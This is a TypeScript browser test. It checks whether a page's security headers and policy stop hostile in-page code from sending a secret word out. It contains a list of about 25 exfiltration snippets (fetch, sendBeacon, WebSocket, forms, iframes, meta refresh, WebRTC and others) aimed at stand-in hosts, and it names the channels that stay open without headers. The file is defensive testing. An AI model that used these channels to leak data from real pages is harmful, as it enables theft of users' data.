import { createSocket } from 'node:dgram';
import { createReadStream } from 'node:fs';
import { createServer } from 'node:http';
import { createServer as createTcpServer, type AddressInfo } from 'node:net';
import { join } from 'node:path';
import { chromium, type Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FLAGS, findBrowser } from '../../scripts/browser.mjs';
import { serve } from '../../scripts/serve.mjs';
import { loaded, ROOT } from './page.ts';

// Hostile code in the page tries to send a word out by every channel that is known, once with the headers of our server
// and once from a static host without them, where only the policy in the page protects. Every address but our own goes
// to a proxy that answers nobody and counts; UDP goes to a socket of ours.

/** Each is the source of a script, run by the tools in the page's own world, where the policy holds for what it does. */
const CHANNELS: Readonly<Record<string, string>> = {
  fetch: `fetch(url)`,
  'fetch without CORS': `fetch(url, { mode: 'no-cors', keepalive: true })`,
  XMLHttpRequest: `{ const x = new XMLHttpRequest(); x.open('GET', url); x.send(); }`,
  sendBeacon: `navigator.sendBeacon(url, 'secret')`,
  WebSocket: `new WebSocket(url.replace('http', 'ws'))`,
  EventSource: `new EventSource(url)`,
  image: `{ new Image().src = url; }`,
  'CSS image': `document.body.style.backgroundImage = 'url(' + url + ')'`,
  font: `{ const f = new FontFace('x', 'url(' + url + ')'); f.load().catch(() => 0); }`,
  stylesheet: `{ const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = url; document.head.append(l); }`,
  script: `{ const s = document.createElement('script'); s.src = url; document.head.append(s); }`,
  prefetch: `{ const l = document.createElement('link'); l.rel = 'prefetch'; l.href = url; document.head.append(l); }`,
  'a ping': `{ const a = document.createElement('a'); a.href = '#x'; a.ping = url; document.body.append(a); a.click(); }`,
  form: `{ const f = document.createElement('form'); f.action = url; f.method = 'POST'; document.body.append(f); f.submit(); }`,
  iframe: `{ const f = document.createElement('iframe'); f.src = url; document.body.append(f); }`,
  video: `{ const m = document.createElement('video'); m.src = url; document.body.append(m); m.load(); }`,
  object: `{ const o = document.createElement('object'); o.data = url; document.body.append(o); }`,
  'fetch in a blob worker': `new Worker(URL.createObjectURL(new Blob(['fetch("' + url + '")'])))`,
  preconnect: `{ const l = document.createElement('link'); l.rel = 'preconnect'; l.href = url; document.head.append(l); }`,
  'dns-prefetch': `{ const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = url; document.head.append(l); }`,
  'window.open': `window.open(url)`,
  'link to a new tab': `{ const a = document.createElement('a'); a.href = url; a.target = '_blank'; document.body.append(a); a.click(); }`,
  'location.href': `location.href = url`,
  'meta refresh': `{ const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + url; document.head.append(m); }`,
  WebRTC: `{ const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + udp }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)); }`,
};

/** What the policy alone cannot close (README, "Where it ends"). */
const OPEN_WITHOUT_HEADERS = [
  'WebRTC',
  'link to a new tab',
  'location.href',
  'meta refresh',
  'preconnect',
  'window.open',
];

describe('hostile code in the page', () => {
  let browser: Browser;
  const heard: string[] = [];
  const sink = createTcpServer((socket) => {
    socket.once('data', (d) => {
      heard.push(d.toString('latin1').split('\r\n')[0]);
      socket.destroy();
    });
    socket.on('error', () => undefined);
  });
  const udp = createSocket('udp4');
  udp.on('message', () => heard.push('UDP'));
  /** The same files from a host that sends no headers of ours. */
  const plain = createServer((request, response) => {
    const path = (request.url ?? '/').split('?')[0];
    const type = path.endsWith('.js') ? 'text/javascript' : path.endsWith('.css') ? 'text/css' : 'text/html';
    response.setHeader('Content-Type', type);
    createReadStream(join(ROOT, 'dist', path === '/' ? 'index.html' : path))
      .on('error', () => response.writeHead(404).end())
      .pipe(response);
  });
  let ours: Awaited<ReturnType<typeof serve>>;

  beforeAll(async () => {
    await Promise.all([
      new Promise<void>((r) => sink.listen(0, '127.0.0.1', r)),
      new Promise<void>((r) => udp.bind(0, '127.0.0.1', r)),
      new Promise<void>((r) => plain.listen(0, '127.0.0.1', r)),
    ]);
    ours = await serve({ port: 0 });
    browser = await chromium.launch({
      executablePath: findBrowser(),
      args: [
        ...FLAGS,
        `--proxy-server=127.0.0.1:${(sink.address() as AddressInfo).port}`,
        '--proxy-bypass-list=127.0.0.1',
      ],
    });
  });
  afterAll(async () => {
    await browser.close();
    sink.close();
    udp.close();
    plain.close();
    ours.close();
  });

  /** Channels by which the word got out of the page at this address. */
  async function leaks(address: string): Promise<string[]> {
    const context = await browser.newContext();
    // The program itself is left out: what holds the word back is the policy of its page.
    await context.route(/\.js$/, (route) => route.abort());
    heard.length = 0;
    const tried = Object.entries(CHANNELS).map(([name, script]) => ({
      name,
      script,
      host: `${name.replaceAll(' ', '-').toLowerCase()}.away.test`,
    }));
    const attempt = async ({ script, host }: (typeof tried)[number]) => {
      const page = await context.newPage();
      await page.goto(address, { waitUntil: 'domcontentloaded' });
      const given = `const url = 'http://${host}/secret'; const udp = ${udp.address().port};`;
      await page.evaluate(`{ ${given} try { ${script} } catch {} }`).catch(() => undefined);
    };
    for (let i = 0; i < tried.length; i += 5) await Promise.all(tried.slice(i, i + 5).map(attempt));
    // Nothing can be awaited for what must not happen: time enough for what does happen without headers.
    await new Promise((resolve) => setTimeout(resolve, 2500));
    await context.close();
    const left = tried.filter(({ name, host }) =>
      heard.some((line) => line.includes(host) || (line === 'UDP' && name === 'WebRTC')),
    );
    return left.map(({ name }) => name).sort();
  }

  it(`gets nothing out by any of ${Object.keys(CHANNELS).length} channels, with the headers of our server`, async () => {
    expect(await leaks(ours.address)).toEqual([]);
  });

  it('gets out only by the channels that the README names, from a host without headers', async () => {
    const left = await leaks(`http://127.0.0.1:${(plain.address() as AddressInfo).port}/`);
    // The test itself must be able to see a leak, and no other channel may be open.
    expect(left).toContain('location.href');
    expect(left.filter((name) => !OPEN_WITHOUT_HEADERS.includes(name))).toEqual([]);
    expect(left.length).toBeGreaterThan(3);
    console.log(`without headers: ${left.join(', ')}`);
  });

  it('finds no WebRTC in the page once the program runs', async () => {
    const page = await browser.newPage();
    await page.goto(ours.address);
    await loaded(page);
    expect(await page.evaluate(() => 'RTCPeerConnection' in window)).toBe(false);
    await page.close();
  });
});
